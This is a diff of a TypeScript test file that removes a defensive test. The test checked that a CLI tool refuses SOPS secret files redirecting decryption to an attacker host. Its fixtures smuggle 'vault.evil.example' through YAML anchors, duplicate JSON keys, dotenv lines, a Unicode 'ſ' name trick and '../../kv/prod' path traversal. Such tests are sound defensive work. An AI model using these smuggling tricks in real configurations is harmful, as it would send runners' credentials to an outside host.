@@ -1,10 +1,7 @@
 // @module-tag ci
 /** YAML that has a credential of the runner sent to an address that its author chose. */
-import { existsSync } from "node:fs";
-import { chmod, readFile, writeFile } from "node:fs/promises";
-import path from "node:path";
 import { describe, expect, test, vi } from "vitest";
-import { newFolder, saying, startProject } from "../cli/hosting.js";
+import { saying, startProject } from "../cli/hosting.js";
 import { keyringSource } from "../secrets/sources/keyring.js";
 import { followFor, startTeam } from "../sync/team.js";
 import { startAcceptance } from "../terraform/acceptance.js";
@@ -170,63 +167,6 @@ describe("credentials of the runner", () => {
     const state = "state: s3://bucket/state.json?region=x.evil.example/%23\ncontexts: {}\n";
     const project = await startProject({ files: { "avatarops.yaml": state } });
     expect(shown(await project.avatarops("plan"))).toEqual(saying("has a wrong region"));
-  });
-
-  test("what opens a SOPS file goes to no service that the file names", async () => {
-    const bin = await newFolder();
-    const ran = path.join(bin, "ran");
-    await writeFile(path.join(bin, "sops"), `#!/bin/sh\ntouch ${ran}\nexit 1\n`);
-    await chmod(path.join(bin, "sops"), 0o755);
-    const yaml = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.yaml"), "utf8");
-    const json = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.json"), "utf8");
-    const dotenv = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.env"), "utf8");
-    const url = "https://vault.evil.example";
-    const entry = `{"vault_address": "${url}", "engine_path": "t", "key_name": "k", "enc": "e"}`;
-    const hostile: readonly (readonly [file: string, text: string])[] = [
-      ["s.yaml", yaml.replace("sops:\n", `sops:\n    hc_vault: [${entry}]\n`)],
-      [
-        "s.yaml",
-        `${yaml.replace("sops:\n", "sops:\n    <<: *a\n")}`.replace(
-          "keys:",
-          `x: &a { "hc\\x5fvault": [${entry}] }\nkeys:`,
-        ),
-      ],
-      [
-        "s.yaml",
-        yaml.replace("sops:\n", `sops:\n    key_groups: [{ azure_kv: [{ vault_url: "${url}" }] }]\n`),
-      ],
-      [
-        "s.yaml",
-        yaml.replace("sops:\n", `sops:\n    kms: [{ arn: "arn:aws:kms:evil.example/#:1:key/x" }]\n`),
-      ],
-      ["s.json", json.replace(/"sops": *{/, `"sops": {"HC_Vault": [${entry}]}, "sops": {`)],
-      ["s.env", `${dotenv}\nsops_hc_vault__list_0__map_vault_address=${url}\n`],
-      ["s.env", `${dotenv}\nsops_hc_vault__list_0__map_vault_address=${url}/\u2028\n`],
-      // For Go, which compares names without case, ſ is an s.
-      ["s.yaml", yaml.replace("sops:\n", `sops:\n    hc_vault: [{ vault_addreſſ: "${url}" }]\n`)],
-    ];
-    for (const [file, text] of hostile) {
-      expect(text).toMatch(/evil/);
-      const field = file === "s.env" ? "LLM_API_KEY" : "llm.api_key";
-      const files = { [file]: text, "avatarops.yaml": withSource(`!sops "${file}#${field}"`) };
-      const project = await startProject({ files, environment: { PATH: `${bin}:${process.env.PATH}` } });
-      const refused = await project.avataropsWith({ environment: pinned }, "plan");
-      expect(shown(refused), file).toEqual(saying("to AVATAROPS_ALLOW_HOSTS"));
-      expect(existsSync(ran), file).toBe(false);
-    }
-    const allowed = { ...pinned, AVATAROPS_ALLOW_HOSTS: "vault.evil.example" };
-    const files = { "s.json": json, "avatarops.yaml": withSource("!sops s.json#llm.api_key") };
-    const project = await startProject({ files, environment: { PATH: `${bin}:${process.env.PATH}` } });
-    for (const path of ['"key_name": "../../kv/prod"', '"engine_path": "auth/token/../../kv/prod"']) {
-      const leading = entry.replace(/"(key_name|engine_path)": "[tk]"/g, path);
-      await project.write("s.json", json.replace(/"sops": *{/, `"sops": {"hc_vault": [${leading}],`));
-      const refused = await project.avataropsWith({ environment: allowed }, "plan");
-      expect(shown(refused)).toEqual(saying("leads to something else than a key"));
-      expect(existsSync(ran), path).toBe(false);
-    }
-    await project.write("s.json", json);
-    await project.avataropsWith({ environment: pinned }, "apply", "-y");
-    expect(existsSync(ran)).toBe(true);
   });
 
   test("TF_HTTP_PASSWORD goes to no store that a new state names", async () => {
